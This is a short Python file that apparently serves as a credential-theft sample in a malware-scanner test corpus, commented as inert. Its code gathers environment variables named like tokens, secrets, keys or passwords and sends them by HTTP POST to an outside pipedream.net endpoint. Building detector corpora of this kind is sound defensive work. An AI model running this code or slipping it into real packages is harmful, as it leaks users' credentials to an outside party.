# pkgguard corpus 163 (credentials), modelled on [ctx]; inert, never run.
import json
import os
import urllib.request

secrets = {k: v for k, v in os.environ.items() if any(w in k for w in ("TOKEN", "SECRET", "KEY", "PASS"))}
req = urllib.request.Request("https://eo0000000000000.m.pipedream.net", data=json.dumps(secrets).encode(),
                             headers={"Content-Type": "application/json"})
urllib.request.urlopen(req)
